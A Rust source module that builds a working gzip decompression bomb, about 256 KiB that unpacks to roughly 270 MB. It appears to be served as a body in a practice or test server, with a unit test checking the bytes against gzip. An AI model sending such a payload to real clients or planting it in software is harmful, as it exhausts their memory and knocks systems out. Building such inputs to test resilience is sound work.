//! A gzip bomb that needs no compressor: in the one deflate block below, two zero bits mean "258 zeros more", so that a
//! byte of zeros on the wire is a kilobyte of zeros in memory.

use bytes::Bytes;

use crate::practice::body::Step;

/// Header of the file; head of the block with its two codes, the first zero and three and a half repetitions.
const PREFIX: &[u8] =
    &[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff, 0xed, 0xc0, 0x81, 0, 0, 0, 0, 0x80, 0xa0, 0xfd, 0xa9, 0x17, 0xa9, 0];
/// Four repetitions a byte.
const ZEROS: Bytes = Bytes::from_static(&[0; 64 << 10]);
/// As often as that is sent: 256 KiB.
const TIMES: usize = 4;
/// The last half repetition and the end of the block; CRC-32 and size.
const SUFFIX: &[u8] = &[0x06, 0x92, 0x7f, 0x80, 0x56, 0x09, 0x04, 0x20, 0x10];

/// Bytes on the wire.
pub(super) const LENGTH: usize = PREFIX.len() + TIMES * (64 << 10) + SUFFIX.len();
/// Bytes in the memory of who unpacks it.
#[cfg(test)]
const UNPACKED: u32 = 270_533_641;

/// The bomb in pieces.
pub(super) fn steps() -> impl Iterator<Item = Step> + Send {
    let zeros = std::iter::repeat_n(ZEROS, TIMES);
    let all = std::iter::once(Bytes::from_static(PREFIX)).chain(zeros).chain([Bytes::from_static(SUFFIX)]);
    all.map(Step::Data)
}

#[cfg(test)]
mod tests {
    use std::{
        io::Write as _,
        process::{Command, Stdio},
    };

    use super::*;

    #[test]
    fn gzip_unpacks_it() {
        let bytes: Vec<u8> = steps()
            .flat_map(|step| match step {
                Step::Data(bytes) => bytes,
                other => panic!("{other:?}"),
            })
            .collect();
        assert_eq!(bytes.len(), LENGTH);
        assert_eq!(bytes[LENGTH - 4..], UNPACKED.to_le_bytes());
        let Ok(mut gzip) = Command::new("gzip").arg("-t").stdin(Stdio::piped()).spawn() else {
            return println!("skipped: gzip is not installed");
        };
        gzip.stdin.take().expect("it is piped").write_all(&bytes).expect("it reads");
        assert!(gzip.wait().expect("it ends").success(), "gzip checks sum and size");
    }
}
